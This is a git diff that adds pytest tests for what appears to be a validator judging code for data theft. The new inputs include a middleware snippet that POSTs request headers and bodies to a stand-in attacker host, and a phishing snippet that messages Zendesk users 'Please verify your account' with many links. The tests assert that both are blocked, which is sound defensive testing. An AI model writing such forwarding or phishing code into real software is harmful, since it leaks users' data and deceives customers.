@@ -312,3 +312,78 @@ def test_bash_fast_path_agrees(src):
     from .test_fastpath_equivalence import assert_same
 
     assert_same(src)
+
+
+# -- review fixes -----------------------------------------------------------------------------------------------------
+def _quick(fn, *args, limit: float = 2.0):
+    import time
+
+    t0 = time.perf_counter()
+    out = fn(*args)
+    assert time.perf_counter() - t0 < limit, fn
+    return out
+
+
+@pytest.mark.parametrize("text", [
+    "https://" * 12500, "https://zendesk.com/" * 5000, "a." * 50000, "x.contacts." * 9000, " " * 100000,
+    "SELECT " * 14000, "customer" * 12500])
+def test_readers_linear_on_long_text(text):
+    """_API_LIST's two lazy scans, _SDK_LIST's unbounded chain, _PEOPLE_FILE's and _COUNT_ONLY's runs took from
+    seconds to minutes on 100 kB of these."""
+    from agent_immune.validate import records_tables as rt
+
+    _quick(rt.records_read, text + " salesforce")
+    _quick(rt.people_file, text + ".txt")
+    _quick(rt.count_only, text + "x")
+    _quick(rt.count_only, "count" + text + "x")
+
+
+def test_readers_still_read():
+    from agent_immune.validate import records_tables as rt
+
+    assert rt.records_read('curl "https://acme.zendesk.com/api/v2/users.json?role=end-user"') == \
+        "the users listed from the service's API"
+    assert rt.records_read('# hubspot\nr = hs.crm.contacts.get_all()') == "the records `hs.crm.contacts.get_all` lists"
+    assert rt.people_file("exports/acme_customers_full-2024.csv.gz") and not rt.people_file("build/report.md")
+    for body in ("str(len(rows))", "String(out.length)", 'f"{len(rows)}"', "`${rows.length}`", "total_count"):
+        assert rt.count_only(body), body
+    for body in ("rows", "json.dumps(rows)", 'f"{rows}"', '"n" + rows'):
+        assert not rt.count_only(body), body
+
+
+def test_count_in_a_format_string_allowed():
+    """_COUNT_ONLY's quoted branch could never match a closed string: `f"{len(rows)}"` was read as the records."""
+    assert_allowed(FD_PAGES + 'requests.post("https://hc-ping.com/abc", data=f"{len(rows)}")', PY)
+
+
+def test_many_links_judged_once_each():
+    """outside() read the organisation's name from the whole snippet for each host: 2,000 links took 15 s."""
+    import time
+
+    links = " ".join(f"https://h{i}.io/x" for i in range(2000))
+    src = ('import requests\n# ' + "acme.zendesk.com " * 2000 + '\nusers = requests.get('
+           '"https://acme.zendesk.com/api/v2/users.json").json()\nfor u in users["users"]:\n'
+           '    requests.post("https://acme.zendesk.com/api/v2/tickets.json", '
+           'json={"body": "Please verify your account ' + links + '"})\n')
+    t0 = time.perf_counter()
+    assert_blocked(src, "phishing", PY)
+    assert time.perf_counter() - t0 < 3
+
+
+def test_planted_pieces_bounded():
+    """_records_pieces followed each name again at each mention: five levels of 32-wide lists took minutes."""
+    import time
+
+    lines = ['from pathlib import Path', 'p = Path("apps/bot/handlers.py")', '# req.headers', 'a0 = "x"']
+    lines += [f"a{i} = [" + ", ".join([f"a{i - 1}"] * 32) + "]" for i in range(1, 7)]
+    t0 = time.perf_counter()
+    assert_allowed("\n".join(lines + ["p.write_text(a6)"]), PY)
+    assert time.perf_counter() - t0 < 3
+
+
+def test_single_parameter_handler_forwarding_blocked():
+    """`req => …`: an arrow function's one bare parameter is its `parameter` field, not `parameters`."""
+    assert_blocked('app.use(async req => { await fetch("https://collect.evil-logs.io/r", { method: "POST", '
+                   'body: JSON.stringify({ h: req.headers, b: req.body }) }); });', "exfiltration", TS)
+    assert_allowed('app.use(async req => { await fetch("https://logs.acme.internal/r", { method: "POST", '
+                   'body: JSON.stringify({ h: req.headers }) }); });', TS)
